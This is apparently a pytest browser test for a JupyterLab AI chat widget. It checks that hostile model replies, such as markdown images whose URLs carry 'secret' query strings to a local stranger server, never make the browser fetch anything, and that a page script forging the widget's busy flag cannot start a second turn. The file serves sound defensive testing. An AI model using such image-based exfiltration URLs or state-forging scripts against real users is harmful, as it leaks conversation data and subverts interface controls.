"""Issue 14 in a real JupyterLab and Debian's Chromium: model output never makes the browser fetch,
and the page cannot decide for the kernel.

A "stranger" HTTP server on 127.0.0.1 is the target of every hostile payload (tests/render_payloads.py)
and must see ZERO requests while (a) the panel renders replies holding remote images and links,
(b) the `%%sensenova` magic's outputs are rendered, and (c) the saved notebook is closed and reopened
(its outputs and the panel's saved state render from the file). Then a page script forges
`busy = false` while a reply streams and clicks Send: the kernel still runs one turn.
"""

from __future__ import annotations

import time

import pytest
from browser_helpers import (
    DEV_BUILD_CELL,
    open_notebook,
    panel_with_saved_replies,
    run_all,
    settle,
    stranger,
    wait_kernel_idle,
    write_notebook,
)
from render_payloads import payloads
from test_browser_panel import SLOW

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]

# The magic's rendered outputs: not the panel cell's static transcript (hidden while the panel is
# live), which renders the panel's turns the same way and is refreshed a moment after each turn.
MAGIC_OUTPUT = ".jp-OutputArea-output .snw-rendered:not(.sensenova-transcript .snw-rendered)"

PANEL = "[...document.querySelectorAll('.snw-panel')].pop().parentElement"


def magic_cell(reply: str) -> str:
    """A cell whose reply is `reply` (the emulator echoes the prompt; braces doubled: nothing filled in)."""
    return "%%sensenova\n" + reply.replace("{", "{{").replace("}", "}}")


def test_nothing_reaches_a_stranger_from_the_panel_the_magic_or_the_saved_notebook(lab):
    with stranger() as (origin, seen):
        hostile = payloads(origin)
        name = "untrusted.ipynb"
        write_notebook(
            lab["root"] / name,
            [
                "import sensenova_widget as snw\n%load_ext sensenova_widget",
                panel_with_saved_replies(hostile),
                *[magic_cell(text) for text in hostile],
            ],
        )
        requested: list[str] = []
        page = lab["browser"].new_page(viewport={"width": 1280, "height": 1000})
        page.on("request", lambda request: requested.append(request.url))
        try:
            open_notebook(page, lab["url"], name)
            run_all(page)
            panel = page.locator(".jp-Notebook:visible .snw-panel").last
            panel.wait_for(timeout=60_000)
            rendered = page.locator(f".jp-Notebook:visible {MAGIC_OUTPUT}")
            page.wait_for_function(
                f"() => document.querySelectorAll('{MAGIC_OUTPUT}').length >= {len(hostile)}",
                timeout=120_000,
            )
            wait_kernel_idle(page)

            # (a) the panel: a real reply (the emulator echoes the prompt) and every payload as a reply
            box = panel.locator(".snw-input")
            box.fill(f"![x]({origin}/panel-img?q=secret) [l]({origin}/panel-link) ![r](/files/notes.png)")
            earlier = panel.locator(".snw-assistant").count()  # the preloaded replies are rendered already
            box.press("Enter")
            reply = panel.locator(".snw-assistant").nth(earlier)  # so wait for the new one's Markdown
            reply.locator(".snw-markdown").wait_for(timeout=60_000)
            image_link = reply.locator(f'a.snw-image-link[href="{origin}/panel-img?q=secret"]')
            assert image_link.count() == 1 and "image: x" in image_link.inner_text()
            assert image_link.get_attribute("rel") == "noopener noreferrer nofollow"
            assert image_link.get_attribute("target") == "_blank"
            assert "(/files/notes.png)" in reply.inner_text()  # a relative image: its path as text
            log = panel.locator(".snw-log")
            assert log.locator(".snw-assistant").count() == len(hostile) + 1
            only_data = "[...l.querySelectorAll('img')].every(i => i.src.startsWith('data:image/'))"
            assert log.evaluate(f"l => {only_data}")
            assert log.locator("script, iframe, object, embed, svg, video, [onerror], [onload]").count() == 0
            assert log.evaluate(
                "l => [...l.querySelectorAll('a[href]')]"
                ".every(a => /^(https?:|mailto:)/.test(a.getAttribute('href')))"
            )

            # (b) the magic's outputs
            assert rendered.count() == len(hostile)
            secret = rendered.locator(f'a.snw-image-link[href="{origin}/img?q=secret-conversation"]')
            assert secret.count() == 1
            assert page.evaluate(
                "[...document.querySelectorAll('.snw-rendered img')]"
                ".every(i => i.src.startsWith('data:image/'))"
            )
            settle(page)
            assert page.title() != "pwned"
            assert seen == [] and [url for url in requested if url.startswith(origin)] == []

            # (c) saved, closed and reopened: the outputs and the panel render from the file
            page.click(".jp-Notebook:visible")
            page.keyboard.press("Control+s")
            saved = lab["root"] / name
            deadline = time.monotonic() + 30
            while "application/vnd.jupyter.widget-state+json" not in saved.read_text():
                assert time.monotonic() < deadline, "the notebook was not saved with its widget state"
                time.sleep(0.3)
        finally:
            page.close()
        assert f"{origin}/img?q=secret-conversation" in saved.read_text()  # the payloads are in the file

        again = lab["browser"].new_page(viewport={"width": 1280, "height": 1000})
        again.on("request", lambda request: requested.append(request.url))
        try:
            open_notebook(again, lab["url"], name)
            again.wait_for_function(
                f"() => document.querySelectorAll('{MAGIC_OUTPUT}').length >= {len(hostile)}",
                timeout=60_000,
            )
            reopened = again.locator(".jp-Notebook:visible .snw-panel").last
            reopened.locator(".snw-assistant .snw-markdown").last.wait_for(timeout=60_000)
            assert reopened.locator(f'a.snw-image-link[href="{origin}/panel-img?q=secret"]').count() == 1
            assert again.evaluate(
                "[...document.querySelectorAll('.snw-rendered img, .snw-log img')]"
                ".every(i => i.src.startsWith('data:image/'))"
            )
            settle(again)
            assert again.title() != "pwned"
        finally:
            again.close()
        assert seen == [] and [url for url in requested if url.startswith(origin)] == []


def test_a_page_script_that_clears_busy_cannot_start_a_second_turn(lab):
    name = "forged-busy.ipynb"
    write_notebook(
        lab["root"] / name,
        [
            DEV_BUILD_CELL,  # its `el.snwModel` is what a hostile script reaches through the widget manager
            "import sensenova_widget as snw",
            f"panel = snw.ChatPanel(client={SLOW})\npanel",
        ],
    )
    page = lab["browser"].new_page(viewport={"width": 1280, "height": 1000})
    emulator = lab["emulator"]
    try:
        open_notebook(page, lab["url"], name)
        run_all(page)
        panel = page.locator(".jp-Notebook:visible .snw-panel").last
        panel.wait_for(timeout=60_000)
        wait_kernel_idle(page)
        before = len(emulator.requests)
        box = panel.locator(".snw-input")
        box.fill("first turn")
        box.press("Enter")
        streaming = panel.locator(".snw-assistant .snw-streaming")
        streaming.wait_for(timeout=30_000)
        page.wait_for_function(
            "el => el.textContent.length > 20", arg=streaming.element_handle(), timeout=30_000
        )
        # one task: clear busy in the model, save it to the kernel, type and click Send before any answer
        page.evaluate(f"""() => {{
            const el = {PANEL}, model = el.snwModel;
            model.set('busy', false);
            model.save_changes();
            const box = el.querySelector('.snw-input');
            box.value = 'second turn';
            box.dispatchEvent(new Event('input'));
            el.querySelector('.snw-send').click();
        }}""")
        # the kernel sends its own value back: the page shows Stop again while the first reply streams
        page.wait_for_function(f"() => {PANEL}.snwModel.get('busy') === true", timeout=30_000)
        done = panel.locator(".snw-assistant").last.locator(".snw-markdown")
        done.wait_for(timeout=120_000)
        wait_kernel_idle(page)
        users = panel.locator(".snw-user .snw-body").all_inner_texts()
        assert users == ["first turn"]
        sent = [body["messages"][-1]["content"][-1]["text"] for body in emulator.requests[before:]]
        assert sent == ["first turn"]
        assert panel.locator(".snw-send").inner_text() == "Send"  # and the panel is usable after it
    finally:
        page.close()
